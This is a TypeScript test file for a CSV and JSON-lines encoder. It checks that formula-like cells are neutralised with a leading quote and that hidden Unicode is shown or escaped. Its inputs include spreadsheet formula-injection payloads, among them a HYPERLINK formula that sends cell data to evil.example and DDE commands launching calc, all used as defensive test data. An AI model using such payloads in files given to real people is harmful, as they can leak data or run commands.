import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cellText, jsonLine } from './cells';
import { encode } from './encode';
import { readCsv } from './testing/read-csv';

async function csvOf(value: unknown): Promise<string> {
  let text = '';
  const batch = (async function* () {
    yield [{ value }];
  })();
  for await (const part of encode('csv', { cell: (row: { value: unknown }) => row.value }, batch)) text += part;
  return text;
}

describe('a cell', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '\u00a0=1+1',
    '＝1+1',
    '－1',
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '-2+3+cmd|" /C calc"!A0',
    '@import',
    '+",=1',
  ])('never runs as a formula: %j', async (text) => {
    const [row] = readCsv(await csvOf(text));
    expect(row?.['cell']).toMatch(/^'/);
  });

  it('is no formula whatever the text, and reads back as what was written', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary' }), async (text) => {
        const shown = cellText(text);
        expect(shown).not.toMatch(/^(?:\t|\r|\s*[=+\-@\uff1d\uff0b\uff0d\uff20])/);
        if (shown !== '') expect(readCsv(await csvOf(text))).toEqual([{ cell: shown }]);
      }),
      { numRuns: 40 },
    );
  });

  it('shows what hides', () => {
    expect(cellText('pay\u202epal \u200b')).toBe('pay⟦U+202E⟧pal ⟦U+200B⟧');
    expect(cellText({ to: 'a\u2066b' })).toBe('{"to":"a⟦U+2066⟧b"}');
  });

  it.each([
    [null, ''],
    [undefined, ''],
    [-3, '-3'],
    [false, 'false'],
    [['A', 'B'], 'A; B'],
    [['=A', 'B'], "'=A; B"],
    [{ a: [1] }, '{"a":[1]}'],
    [[{ a: 1 }], '[{"a":1}]'],
  ])('of %j is %j', (value, text) => expect(cellText(value)).toBe(text));
});

describe('a line of JSON', () => {
  it('reads back the same, on one line, with nothing hidden in it', () => {
    fc.assert(
      fc.property(fc.jsonValue({ stringUnit: 'binary' }), (value) => {
        const same: unknown = JSON.parse(JSON.stringify(value));
        const line = jsonLine(same);
        expect(JSON.parse(line)).toEqual(same);
        expect(line).not.toMatch(/[\n\r\u0085\u2028\u2029\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/);
      }),
    );
    expect(jsonLine({ text: 'a\u202eb\u{e0041}' })).toBe('{"text":"a\\u202eb\\udb40\\udc41"}');
  });
});
